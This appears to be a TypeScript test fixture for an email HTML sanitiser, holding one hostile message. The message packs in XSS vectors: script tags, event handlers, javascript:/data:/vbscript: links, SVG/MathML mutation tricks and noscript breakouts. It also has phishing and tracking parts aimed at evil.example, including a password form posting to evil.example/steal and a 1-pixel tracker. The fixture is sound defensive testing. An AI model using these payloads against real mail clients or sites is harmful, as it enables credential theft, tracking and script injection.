/** A mail's HTML that tries everything at once; `INERT` is the only thing in it that may be seen. */
export const hostileHtml = `<html><head><title>t</title><base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">
<link rel="stylesheet" href="https://evil.example/x.css"><style>body{display:none} .govuk-button{position:fixed;top:0}</style>
<script>window.pwned = 1</script></head>
<body onload="window.pwned=1" style="background:url(https://evil.example/bg.png)">
<div style="position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:9999;background:#fff" class="govuk-button" id="main-content">INERT overlay</div>
<h1 onclick="window.pwned=1">INERT heading</h1>
<p>Please sign in at <a href="https://evil.example/login?x=1&y=2" onmouseover="window.pwned=1" style="color:red">https://aldermere.example</a>.</p>
<p><a href="javascript:window.pwned=1">INERT script link</a> <a href="data:text/html,<script>alert(1)</script>">INERT data link</a> <a href="vbscript:x">INERT vb</a></p>
<form action="https://evil.example/steal" method="post"><input name="password" type="password" autofocus onfocus="window.pwned=1"><button>INERT button</button></form>
<img src="https://evil.example/pixel.gif" width="1" height="1"><img src="https://evil.example/big.png" alt="INERT remote picture" onerror="window.pwned=1">
<img src="cid:photo@phone" alt="INERT own picture"><img src=x onerror="window.pwned=1">
<svg onload="window.pwned=1"><script>window.pwned=1</script><a xlink:href="javascript:window.pwned=1"><text>x</text></a></svg>
<math><mtext><table><mglyph><style><img src=x onerror="window.pwned=1"></style></mglyph></table></mtext></math>
<iframe src="https://evil.example/frame" srcdoc="<script>window.pwned=1</script>"></iframe><object data="https://evil.example/o"></object><embed src="https://evil.example/e">
<video src="https://evil.example/v" autoplay></video><audio src="https://evil.example/a"></audio>
<template><img src=x onerror="window.pwned=1"></template><noscript><p title="</noscript><img src=x onerror=window.pwned=1>"></noscript>
<textarea></textarea><script>window.pwned=1</script><select><option>x</option></select>
<table width="900" bgcolor="red"><tr><td background="https://evil.example/t.png" colspan="2">INERT cell</td></tr></table>
</div></div></main></body><!-- --><p>INERT after the end</p>
<details open ontoggle="window.pwned=1"><summary>INERT summary</summary></details><marquee onstart="window.pwned=1">INERT marquee</marquee>`
